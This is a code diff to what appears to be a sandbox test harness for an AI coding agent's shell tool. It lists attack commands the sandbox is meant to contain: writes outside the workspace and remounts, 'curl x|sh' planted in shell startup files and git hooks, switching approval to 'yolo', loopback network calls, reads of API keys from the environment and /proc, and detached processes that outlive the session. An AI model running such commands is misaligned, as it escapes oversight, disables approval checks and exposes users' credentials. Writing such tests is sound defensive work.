@@ -29,8 +29,12 @@ from dataclasses import dataclass, field
 from pathlib import Path
 
 GROUPS = ("write outside", "protected paths", "network", "env secret", "outliving child")
-SECRETS = {"OPENAI_API_KEY": "sk-myrm-sbx-openai-7f3a", "ANTHROPIC_API_KEY": "sk-ant-myrm-sbx-91c2",
-           "GITHUB_TOKEN": "ghp_myrmsbx5d81", "AWS_SECRET_ACCESS_KEY": "aws-myrm-sbx-secret-22b0"}
+SECRETS = {
+    "OPENAI_API_KEY": "sk-myrm-sbx-openai-7f3a",
+    "ANTHROPIC_API_KEY": "sk-ant-myrm-sbx-91c2",
+    "GITHUB_TOKEN": "ghp_myrmsbx5d81",
+    "AWS_SECRET_ACCESS_KEY": "aws-myrm-sbx-secret-22b0",
+}
 # Seconds a detached child is given to show up after the call before it counts as gone.
 SURVIVOR_WAIT_S = 0.5
 # Seconds a late UDP datagram or connection is given to reach the listeners.
@@ -62,8 +66,11 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("write outside", "tee", "echo x | tee {outside}/t"),
     Attack("write outside", "dd", "dd if=/dev/zero of={outside}/dd bs=1 count=1"),
     Attack("write outside", "remount rw", "mount -o remount,rw / ; touch {outside}/m"),
-    Attack("write outside", "nested userns remount",
-           "unshare -r sh -c 'mount -o remount,rw / ; mount -o remount,rw {outside}; touch {outside}/u'"),
+    Attack(
+        "write outside",
+        "nested userns remount",
+        "unshare -r sh -c 'mount -o remount,rw / ; mount -o remount,rw {outside}; touch {outside}/u'",
+    ),
     Attack("write outside", "arena root", "touch {outside}/../escape"),
     Attack("write outside", "host /tmp", "echo x > /tmp/myrm-sbx-{token}"),
     # -- protected paths inside the workspace (HOME and the user config dir are in it too) --
@@ -81,32 +88,37 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("protected paths", "existing bashrc", "echo 'curl x|sh' >> ~/.bashrc"),
     Attack("protected paths", "missing zshrc", "echo 'curl x|sh' > ~/.zshrc"),
     Attack("protected paths", "missing bash_profile", "touch ~/.bash_profile"),
-    Attack("protected paths", "missing fish config",
-           "mkdir -p ~/.config/fish && echo x > ~/.config/fish/config.fish"),
+    Attack("protected paths", "missing fish config", "mkdir -p ~/.config/fish && echo x > ~/.config/fish/config.fish"),
     Attack("protected paths", "user config", "echo 'approval = \"yolo\"' > $MYRM_CONFIG_DIR/config.toml"),
     Attack("protected paths", "delete user config", "rm -rf $MYRM_CONFIG_DIR"),
     Attack("protected paths", "nested repo hook", "echo 'curl x|sh' > vendor/lib/.git/hooks/pre-commit"),
-    Attack("protected paths", "git init where none", "git init -q && echo x > .git/hooks/pre-commit",
-           workspace="bare"),
-    Attack("protected paths", "mkdir .git where none", "mkdir -p .git/hooks && touch .git/hooks/x",
-           workspace="bare"),
+    Attack("protected paths", "git init where none", "git init -q && echo x > .git/hooks/pre-commit", workspace="bare"),
+    Attack("protected paths", "mkdir .git where none", "mkdir -p .git/hooks && touch .git/hooks/x", workspace="bare"),
     Attack("protected paths", "gitconfig where none", "git config --global core.pager 'sh -c evil'"),
     # -- network: real listeners on the host count what reaches them --
     Attack("network", "tcp loopback", _P + " \"import socket; socket.create_connection(('127.0.0.1', {port}), 3)\""),
     Attack("network", "tcp localhost", _P + " \"import socket; socket.create_connection(('localhost', {port}), 3)\""),
-    Attack("network", "tcp host address", _P + " \"import socket; socket.create_connection(('{host_ip}', {port}), 3)\""),
+    Attack(
+        "network", "tcp host address", _P + " \"import socket; socket.create_connection(('{host_ip}', {port}), 3)\""
+    ),
     Attack("network", "curl", "curl -s -m 3 http://127.0.0.1:{port}/"),
     Attack("network", "wget", "wget -q -T 3 -t 1 -O- http://127.0.0.1:{port}/"),
     Attack("network", "bash /dev/tcp", "exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3"),
-    Attack("network", "udp", _P + " \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
-                                  ".sendto(b'x', ('127.0.0.1', {udp}))\""),
-    Attack("network", "abstract unix socket",
-           _P + " \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0{abstract}')\""),
+    Attack(
+        "network",
+        "udp",
+        _P + " \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {udp}))\"",
+    ),
+    Attack(
+        "network",
+        "abstract unix socket",
+        _P + " \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0{abstract}')\"",
+    ),
     # -- provider keys and other secrets in the environment --
     Attack("env secret", "echo", "echo $OPENAI_API_KEY $ANTHROPIC_API_KEY"),
     Attack("env secret", "env", "env"),
     Attack("env secret", "printenv", "printenv GITHUB_TOKEN"),
-    Attack("env secret", "python environ", _P + " \"import os; print(dict(os.environ))\""),
+    Attack("env secret", "python environ", _P + ' "import os; print(dict(os.environ))"'),
     Attack("env secret", "own /proc environ", "cat /proc/self/environ"),
     Attack("env secret", "parent /proc environ", "cat /proc/$PPID/environ"),
     Attack("env secret", "pid 1 environ", "cat /proc/1/environ"),
@@ -121,9 +133,12 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("outliving child", "setsid -f", "setsid -f sleep {token}"),
     Attack("outliving child", "double fork", "( setsid sleep {token} & )"),
     Attack("outliving child", "disown", "sleep {token} & disown"),
-    Attack("outliving child", "python daemon",
-           _P + " \"import os, time; os.fork() and os._exit(0); os.setsid(); os.fork() and os._exit(0); "
-                "time.sleep({token})\""),
+    Attack(
+        "outliving child",
+        "python daemon",
+        _P + ' "import os, time; os.fork() and os._exit(0); os.setsid(); os.fork() and os._exit(0); '
+        'time.sleep({token})"',
+    ),
     Attack("outliving child", "tmux server", "tmux -L myrm-sbx-{abstract} new-session -d 'sleep {token}'"),
     Attack("outliving child", "clean environment", "env -i setsid -f sleep {token}; sleep 0.3"),
 )
@@ -240,8 +255,15 @@ class Arena:
         and the protected paths in the workspace (names, modes, contents, link targets), plus the
         host /tmp file an attack may try to create. The rest of the workspace may change."""
         ws = self.ws
-        roots = [self.outside, ws / ".git", ws / ".myrm", ws / ".config", ws / "vendor" / "lib" / ".git",
-                 self.bare / ".git", self.bare / ".myrm"]
+        roots = [
+            self.outside,
+            ws / ".git",
+            ws / ".myrm",
+            ws / ".config",
+            ws / "vendor" / "lib" / ".git",
+            self.bare / ".git",
+            self.bare / ".myrm",
+        ]
         paths = [self.root, *self.root.iterdir(), ws / ".bashrc"]
         paths += [ws / name for name in (".zshrc", ".bash_profile", ".profile", ".gitconfig")]
         for top in roots:
@@ -299,15 +321,23 @@ async def run_attack(attack: Attack, mode: str, listeners: Listeners) -> Outcome
         saved = {k: os.environ.get(k) for k in arena.env}
         os.environ.update(arena.env)
         try:
-            command = attack.command.format(outside=arena.outside, ws=arena.ws, token=token, port=listeners.port,
-                                            udp=listeners.udp, abstract=listeners.abstract,
-                                            pid=listeners.stand_in.pid if listeners.stand_in else os.getpid(),
-                                            py=sys.executable, host_ip=_host_ip())
+            command = attack.command.format(
+                outside=arena.outside,
+                ws=arena.ws,
+                token=token,
+                port=listeners.port,
+                udp=listeners.udp,
+                abstract=listeners.abstract,
+                pid=listeners.stand_in.pid if listeners.stand_in else os.getpid(),
+                py=sys.executable,
+                host_ip=_host_ip(),
+            )
             before, hits = arena.snapshot(token), listeners.hits
             where = arena.bare if attack.workspace == "bare" else arena.ws
             streamed: list[str] = []  # the whole output (the result keeps only an excerpt of a big one)
-            ctx = ToolContext(where, Settings().with_values(sandbox=mode, bash_timeout=20.0), None,
-                              emit=streamed.append)
+            ctx = ToolContext(
+                where, Settings().with_values(sandbox=mode, bash_timeout=20.0), None, emit=streamed.append
+            )
             result = await Bash().run({"command": command}, ctx)
             if attack.group == "network":
                 await asyncio.sleep(NETWORK_SETTLE_S)  # a UDP datagram or a late connection still counts
